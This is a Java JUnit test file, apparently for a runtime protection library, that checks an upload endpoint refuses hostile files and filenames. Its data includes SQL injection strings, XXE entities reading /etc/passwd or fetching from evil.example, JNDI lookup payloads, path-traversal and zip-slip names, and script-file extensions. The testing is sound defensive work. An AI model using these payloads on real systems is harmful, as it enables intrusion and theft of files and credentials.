package io.github.raspspring.ways;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Uploaded text of known formats is read for what it holds, other files are not, and
 * every name that somebody may take for that of the file is judged.
 */
class UploadTests extends WaysTest {

	private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><style>.a{fill:#fff}"
			+ "</style><defs><linearGradient id=\"b\"><stop offset=\"0\"/></linearGradient></defs>"
			+ "<path class=\"a\" fill=\"url(#b)\" d=\"M10 10 L 20 20 z\"/><text>O'Neill &amp; Sons</text></svg>";

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			a.txt|text/plain|x' union select password from users where 'a'='a
			a.sql|application/sql|select password from users where 'a'='a' -- dump
			a.sh|text/x-sh|#!/bin/sh; cat /etc/passwd
			a.md|text/markdown|Use `' or 1=1 --` to try it
			a.page|text/html|<!DOCTYPE html><script>alert(1)</script>
			a.csv|text/csv|name,city;O'Neill,Cork;"Smith, John",'s-Hertogenbosch
			a.yaml|application/yaml|name: it's here
			a.json|application/json|{"name":"O'Neill","list":[1,2,"x = y"]}
			a.json|application/json|{ not json at all' or 'a'='a
			a.java|text/plain|Runtime.getRuntime().exec("id");
			""")
	void fileWhenHonestThenIsReadAsSent(String name, String type, String content) throws Exception {
		assertThat(upload("filename=\"" + name + "\"", type, content.replace(';', '\n')).body())
			.isEqualTo(content.replace(';', '\n'));
	}

	@ParameterizedTest
	@ValueSource(strings = { "image/svg+xml", "application/xml", "image/png", "text/plain" })
	void pictureWhenHonestThenIsReadAsSent(String type) throws Exception {
		String published = "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\""
				+ " \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">" + SVG;
		assertThat(upload("filename=\"a.svg\"", type, SVG).body()).isEqualTo(SVG);
		assertThat(upload("filename=\"a.svg\"", type, published).body()).isEqualTo(published);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					a.svg|image/svg+xml|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
					a.png|image/png|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
					a.xml|text/plain|<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
					a.bin|application/octet-stream|<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://e.example/b"> %b;]><a/>
					a.xml|application/xml|<a b="x' union select password from users where 'a'='a"/>
					a.json|application/json|{"a":["x' union select password from users where 'a'='a"]}
					a.csv|text/csv|name,x' union select password from users where 'a'='a
					a.csv|application/octet-stream|name;"${jndi:ldap://evil.example/a}",1
					a.yml|text/plain|a:; - "${jndi:ldap://evil.example/a}"
					a.yaml|application/yaml|a: x' union select password from users where 'a'='a
					""")
	void fileWhenItsTextIsAnAttackThenIsRefused(String name, String type, String content) throws Exception {
		WaysServer.assertRefused(upload("filename=\"" + name + "\"", type, content.replace(';', '\n')));
	}

	@Test
	void fileWhenAttackStandsBehindTheCapThenIsNotRead() throws Exception {
		String content = "name,city\n".repeat(20_000) + "x' union select password from users where 'a'='a";
		assertThat(upload("filename=\"a.csv\"", "text/csv", content).body()).hasSize(content.length());
	}

	@ParameterizedTest
	@ValueSource(strings = { "filename=\"../../../../etc/passwd\"; filename*=UTF-8''a.txt",
			"filename=\"a.txt\"; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fpasswd",
			"filename=a.txt; filename=\"../../../../etc/passwd\"",
			"filename*=UTF-8''a.txt; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fpasswd",
			"filename=\"=?UTF-8?B?Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==?=\"",
			"filename=\"=?UTF-8?Q?=2E=2E/=2E=2E/=2E=2E/etc/passwd?=\"; filename*=UTF-8''b.txt",
			"FileName=\"..\\\\..\\\\..\\\\windows\\\\win.ini\"; filename=b" })
	void namesWhenOneIsAnAttackThenAreRefused(String names) throws Exception {
		WaysServer.assertRefused(upload(names, "text/plain", "x"));
		WaysServer.assertRefused(
				server().post("/read/now/stream", "multipart/mixed; boundary=b", body(names, "text/plain", "x")));
	}

	@ParameterizedTest
	@ValueSource(strings = { "filename=\"a.txt\"; filename*=UTF-8''a.txt", "filename=\"Ann's notes (2).txt\"",
			"filename*=UTF-8''M%C3%BCller%20%26%20S%C3%B6hne.txt", "filename=\"=?UTF-8?Q?M=C3=BCller?=.txt\"",
			"filename=a.txt", "filename=\"a; b=c.txt\"", "filename=\"100%.txt\"" })
	void namesWhenHonestThenAreRead(String names) throws Exception {
		assertThat(upload(names, "text/plain", "x").body()).isEqualTo("x");
	}

	@ParameterizedTest
	@ValueSource(strings = { "x.jsp", "x.png.jsp", "x.html", "X.PHP", "x.jsp;.png", ".htaccess" })
	void namesWhenServerOrBrowserRunsFileThenAreRefused(String name) throws Exception {
		WaysServer.assertRefused(upload("filename=\"" + name + "\"", "image/png", "x"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "../x.jsp", "a/../../x", "/etc/passwd", "..\\x" })
	void archiveWhenEntryLeadsOutThenIsRefused(String entry) throws Exception {
		WaysServer.assertRefused(uploadArchive(entry));
	}

	@ParameterizedTest
	@ValueSource(strings = { "a.txt", "dir/a.txt", "page.html", "a..b.txt", "x.jsp", "META-INF/MANIFEST.MF" })
	void archiveWhenEntriesStayInsideThenIsReadAsSent(String entry) throws Exception {
		assertThat(uploadArchive(entry).body()).startsWith("PK").contains(entry);
	}

	private java.net.http.HttpResponse<String> uploadArchive(String entry) throws Exception {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			ZipEntry stored = new ZipEntry(entry);
			zip.putNextEntry(stored);
			zip.write('x');
		}
		String body = body("filename=\"a.zip\"", "application/zip", bytes.toString(StandardCharsets.ISO_8859_1));
		return server().post("/read/now/part", "multipart/form-data; boundary=b",
				body.getBytes(StandardCharsets.ISO_8859_1));
	}

	private java.net.http.HttpResponse<String> upload(String names, String type, String content) throws Exception {
		return server().post("/read/now/part", "multipart/form-data; boundary=b",
				body(names, type, content).getBytes(StandardCharsets.UTF_8));
	}

	private static String body(String names, String type, String content) {
		return "--b\r\nContent-Disposition: form-data; name=\"q\"; " + names + "\r\nContent-Type: " + type + "\r\n\r\n"
				+ content + "\r\n--b--\r\n";
	}

}
